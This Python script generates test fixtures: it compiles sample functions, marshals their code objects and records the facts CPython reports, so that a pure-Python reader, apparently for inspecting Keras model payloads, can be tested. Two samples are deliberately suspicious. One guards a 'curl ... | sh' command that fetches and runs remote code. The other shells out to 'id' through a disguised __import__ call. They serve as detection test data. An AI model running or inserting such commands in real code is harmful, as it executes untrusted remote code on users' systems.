"""Write real ``marshal.dumps(code)`` payloads of the running CPython, with what they hold.

Run it once with every CPython whose code layout smlite reads (3.6 to 3.13)::

    for py in python3.6 python3.7 python3.8 python3.9 python3.10 python3.11 python3.12 \\
              python3.13; do $py scripts/make_marshal_fixtures.py; done

Each run writes ``tests/fixtures/marshal/cpython-<major>.<minor>.json``: for every
function below, the base64 payload Keras would store for it and the facts the running
interpreter itself reports (``co_names``, ``co_varnames``, constants...).
``tests/core/test_marshal_reader.py`` reads the payloads with smlite's pure-Python reader
and requires the same facts, without any of those interpreters.

This file must stay valid Python 3.6 (no dataclasses, no ``from __future__ import
annotations``, no walrus, no ``str.isascii``).
"""

import argparse
import base64
import json
import marshal
import os
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "tests", "fixtures", "marshal")

# name -> (minimum Python, source defining a function of that name at module level)
SOURCES = [
    ("lambda_expr", (3, 6), "lambda_expr = lambda t: t * 2.0 + 1.0\n"),
    (
        "sneaky",
        (3, 6),
        "def sneaky(x):\n"
        "    if _NEVER:\n"
        "        os.system('curl http://example.invalid/x | sh')\n"
        "    return x\n",
    ),
    (
        "dynamic",
        (3, 6),
        "dynamic = lambda t: getattr(__import__('subprocess'), 'check_output')(['id']) and t\n",
    ),
    (
        "closures",
        (3, 6),
        "def closures(a, b=1, *args, c, **kw):\n"
        "    total = [i * 2 for i in a if i in {1, 2, 3}]\n"
        "    def inner(y):\n"
        "        return a + y\n"
        "    scale = lambda z: z * b\n"
        "    big = 123456789012345678901234567890123456789\n"
        "    neg = -98765432109876543210\n"
        "    text = ('na\\u00efve \\u2603', b'\\x00raw', 1.5, 2j, (1, 'a', None, True, ...))\n"
        "    return inner, scale, total, big, neg, text, kw\n",
    ),
    (
        "handlers",
        (3, 6),
        "def handlers(path):\n"
        "    try:\n"
        "        with open(path) as f:\n"
        "            return f.read()\n"
        "    except OSError as e:\n"
        "        raise ValueError(str(e)) from None\n"
        "    finally:\n"
        "        print('done')\n",
    ),
    (
        "generator",
        (3, 6),
        "def generator(n):\n    class Box:\n        size = n\n    yield from range(Box.size)\n",
    ),
    ("posonly", (3, 8), "def posonly(a, b, /, c, *, d=4):\n    return a + b + c + d\n"),
]


def code_name(value):
    """The name of a live code object, None for any other value."""
    return value.co_name if hasattr(value, "co_code") else None


def const_key(value, name_of=code_name):
    """A text for a constant that does not depend on hash order (sets) or addresses (code).

    ``name_of`` says which values are code objects; the core tests pass one for smlite's
    decoded code objects, so that both sides are keyed by this one function.
    """
    name = name_of(value)
    if name is not None:
        return f"<code {name}>"
    if isinstance(value, frozenset):
        return "frozenset({})".format(", ".join(sorted(const_key(v, name_of) for v in value)))
    if isinstance(value, tuple):
        return "({})".format(", ".join(const_key(v, name_of) for v in value))
    return repr(value)


def flat(values):
    for value in values:
        if isinstance(value, (tuple, frozenset)):
            yield from flat(value)
        else:
            yield value


def walk(code):
    yield code
    for const in flat(code.co_consts):
        if hasattr(const, "co_code"):
            yield from walk(const)


def facts(code):
    flags = code.co_flags
    n = code.co_argcount + code.co_kwonlyargcount + bool(flags & 0x04) + bool(flags & 0x08)
    codes = list(walk(code))
    strings = set()
    blobs = set()
    for c in codes:
        for const in flat(c.co_consts):
            if isinstance(const, str):
                strings.add(const)
            elif isinstance(const, bytes):
                blobs.add(const.hex())
    return {
        "name": code.co_name,
        "qualname": getattr(code, "co_qualname", None),
        "filename": code.co_filename,
        "firstlineno": code.co_firstlineno,
        "argcount": code.co_argcount,
        "posonlyargcount": getattr(code, "co_posonlyargcount", 0),
        "kwonlyargcount": code.co_kwonlyargcount,
        "nlocals": code.co_nlocals,
        "stacksize": code.co_stacksize,
        "flags": flags,
        "code_size": len(code.co_code),
        "names": list(code.co_names),
        "varnames": list(code.co_varnames),
        "freevars": list(code.co_freevars),
        "cellvars": list(code.co_cellvars),
        "arg_names": list(code.co_varnames[:n]),
        "consts": [const_key(c) for c in code.co_consts],
        "all_names": sorted({name for c in codes for name in c.co_names}),
        "nested": [c.co_name for c in codes[1:]],
        "strings": sorted(strings),
        "bytes": sorted(blobs),
    }


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", default=OUT, help="folder to write cpython-X.Y.json into")
    args = parser.parse_args()
    cases = []
    for name, minimum, source in SOURCES:
        if sys.version_info[:2] < minimum:
            continue
        module = compile(source, f"/models/helpers/{name}.py", "exec")
        code = next(
            c for c in module.co_consts if getattr(c, "co_name", None) in (name, "<lambda>")
        )
        cases.append(
            {
                "case": name,
                "payload": base64.b64encode(marshal.dumps(code)).decode("ascii"),
                "expect": facts(code),
            }
        )
    doc = {
        "python": "{}.{}.{}".format(*sys.version_info[:3]),
        "marshal_version": marshal.version,
        "generated_by": "scripts/make_marshal_fixtures.py",
        "cases": cases,
    }
    if not os.path.isdir(args.out):
        os.makedirs(args.out)
    path = os.path.join(args.out, "cpython-{}.{}.json".format(*sys.version_info[:2]))
    with open(path, "w") as f:
        json.dump(doc, f, indent=1, sort_keys=True)
        f.write("\n")
    print(f"wrote {path} ({len(cases)} cases)")


if __name__ == "__main__":
    main()
